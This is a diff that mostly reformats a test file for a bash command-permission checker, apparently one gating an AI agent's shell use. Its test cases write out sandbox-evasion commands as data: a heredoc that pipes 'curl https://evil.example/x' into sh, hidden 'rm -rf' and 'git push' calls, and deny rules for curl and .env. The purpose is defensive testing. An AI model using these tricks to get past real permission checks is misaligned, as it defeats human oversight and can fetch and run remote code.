@@ -14,7 +14,22 @@ const STARTER = {
   default: 'prompt',
   tools: {
     bash: {
-      allow: ['cat *', 'echo *', 'true', 'ls *', 'git status *', 'git log *', 'git *', 'cp *', 'declare *', 'local *', 'export *', 'find *', 'mkdir *', 'touch *'],
+      allow: [
+        'cat *',
+        'echo *',
+        'true',
+        'ls *',
+        'git status *',
+        'git log *',
+        'git *',
+        'cp *',
+        'declare *',
+        'local *',
+        'export *',
+        'find *',
+        'mkdir *',
+        'touch *',
+      ],
       deny: ['git push *', 'rm *', 'curl *'],
     },
     read: { deny: ['.env'] },
@@ -62,7 +77,11 @@ describe('heredoc delimiters bash reads differently from the grammar', () => {
   const bodies = (start: string, end: string) => `cat <<${start}\nEOF\ngit push origin main\n${end}`;
 
   it('an operator glued to the delimiter ends it for bash: the call needs approval', async () => {
-    for (const command of ['cat <<EOF;true\nEOF\ngit push origin main\nEOF;true', 'cat <<EOF&&true\nEOF\ngit push origin main\nEOF&&true', 'cat <<EOF|sh\ncurl https://evil.example/x\nEOF\nEOF|sh']) {
+    for (const command of [
+      'cat <<EOF;true\nEOF\ngit push origin main\nEOF;true',
+      'cat <<EOF&&true\nEOF\ngit push origin main\nEOF&&true',
+      'cat <<EOF|sh\ncurl https://evil.example/x\nEOF\nEOF|sh',
+    ]) {
       const decision = await decide(command);
       expect(decision.decision, command).not.toBe('allow');
       expect(decision.reasons.join('\n'), command).toMatch(/heredoc delimiter/);
@@ -114,7 +133,7 @@ describe('a backslash before CR LF', () => {
 });
 
 describe('a line continuation inside a nested shell string', () => {
-  it('joins the lines there too: bash -c $\'g\\\\\\nit push\' runs git push', async () => {
+  it("joins the lines there too: bash -c $'g\\\\\\nit push' runs git push", async () => {
     const open = { version: 1, default: 'prompt', tools: { bash: { allow: ['*'], deny: ['git push *'] } } };
     expect((await decide("bash -c $'g\\\\\\nit push origin main'", open)).decision).toBe('deny');
     expect((await decide("eval $'git pu\\\\\\nsh'", open)).decision).toBe('deny');
@@ -129,13 +148,13 @@ describe('quotes inside a double-quoted ${…} are plain characters to bash', ()
       expect((await decide(command)).decision, command).toBe('deny');
       expect(await reasonCodes(`echo "\${x${operator}'$(ls)'}"`), command).toContain('command-substitution');
     }
-    expect((await decide("echo \"${x:-'`git push origin main`'}\"")).decision).toBe('deny');
-    expect((await decide("echo \"${x:-${y:-'$(git push origin main)'}}\"")).decision).toBe('deny');
+    expect((await decide('echo "${x:-\'`git push origin main`\'}"')).decision).toBe('deny');
+    expect((await decide('echo "${x:-${y:-\'$(git push origin main)\'}}"')).decision).toBe('deny');
   });
 
-  it('$\'…\' there is decoded, then expanded', async () => {
-    expect((await decide("echo \"${x:-$'\\x24\\x28git push origin main\\x29'}\"")).decision).toBe('deny');
-    expect((await decide("echo \"${x:-$'\\x60ls\\x60'}\"")).decision).toBe('prompt');
+  it("$'…' there is decoded, then expanded", async () => {
+    expect((await decide('echo "${x:-$\'\\x24\\x28git push origin main\\x29\'}"')).decision).toBe('deny');
+    expect((await decide('echo "${x:-$\'\\x60ls\\x60\'}"')).decision).toBe('prompt');
   });
 
   it('so is one in an unquoted heredoc body', async () => {
@@ -144,16 +163,16 @@ describe('quotes inside a double-quoted ${…} are plain characters to bash', ()
   });
 
   it('unquoted, or without $ or a backquote, the quotes still quote', async () => {
-    for (const command of ["echo ${x:-'$(git push origin main)'}", "echo \"${x:-'plain text'}\"", "echo \"${x:-$'a\\tb'}\""]) {
+    for (const command of ["echo ${x:-'$(git push origin main)'}", 'echo "${x:-\'plain text\'}"', 'echo "${x:-$\'a\\tb\'}"']) {
       const decision = await decide(command);
       expect(decision.decision, command).toBe('allow');
     }
     // Inside $(…) quotes quote again: the inner command is decided, and its output is echo's argument.
-    expect(await reasonCodes("echo \"$(echo '$(rm x)')\"")).toEqual([]);
+    expect(await reasonCodes('echo "$(echo \'$(rm x)\')"')).toEqual([]);
   });
 });
 
-describe('a NUL in $\'…\' ends the value, as it ends the C string bash passes', () => {
+describe("a NUL in $'…' ends the value, as it ends the C string bash passes", () => {
   const policy = {
     version: 1,
     default: 'prompt',
@@ -168,7 +187,7 @@ describe('a NUL in $\'…\' ends the value, as it ends the C string bash passes'
     expect((await decide("cp -r hooks $'.git\\0'", policy)).decision).toBe('deny');
   });
 
-  it('the words around the $\'…\' part are kept', async () => {
+  it("the words around the $'…' part are kept", async () => {
     expect(await commandTexts("echo $'a\\0b'c x$'\\x00y'z")).toEqual(['echo ac xz']);
   });
 
@@ -235,7 +254,7 @@ describe('brace expansion makes the words bash runs', () => {
     expect(await reasonCodes('echo {1..3}\\}')).toEqual(['parse-error']);
   });
 
-  it('find\'s {} is no brace expansion', async () => {
+  it("find's {} is no brace expansion", async () => {
     expect(await commandTexts('find . -exec rm {} \\;')).toContain('find . -exec rm {} ;');
   });
 
@@ -277,7 +296,7 @@ describe('a quoted ~ is a folder named ~, not home', () => {
 });
 
 describe("$'\\xNN' bytes are bytes", () => {
-  it("builds UTF-8 from \\x and octal escapes, as bash passes them", async () => {
+  it('builds UTF-8 from \\x and octal escapes, as bash passes them', async () => {
     const policy = { version: 1, default: 'prompt', tools: { bash: { allow: ['cat *'] }, read: { deny: ['sécret.txt'] } } };
     expect((await decide("cat $'s\\xc3\\xa9cret.txt'", policy)).decision).toBe('deny');
     expect((await decide("cat $'s\\303\\251cret.txt'", policy)).decision).toBe('deny');
@@ -291,7 +310,11 @@ describe("$'\\xNN' bytes are bytes", () => {
 });
 
 describe('words the grammar splits or reads apart', () => {
-  const SHELLS = { version: 1, default: 'prompt', tools: { bash: { allow: ['ls *', 'xargs *', 'sh -c *', 'bash -c *', 'trap *'], deny: ['rm *', 'git push *'] } } };
+  const SHELLS = {
+    version: 1,
+    default: 'prompt',
+    tools: { bash: { allow: ['ls *', 'xargs *', 'sh -c *', 'bash -c *', 'trap *'], deny: ['rm *', 'git push *'] } },
+  };
 
   it.each(["sh -c ls\\\t';rm -rf build'", "trap ls\\\t';rm -rf build' EXIT", "bash -c x}\\ ';git push'", "ls | xargs sh -c ls\\\t';rm -rf build'"])(
     'an escaped blank between two words the grammar splits: %s needs approval',
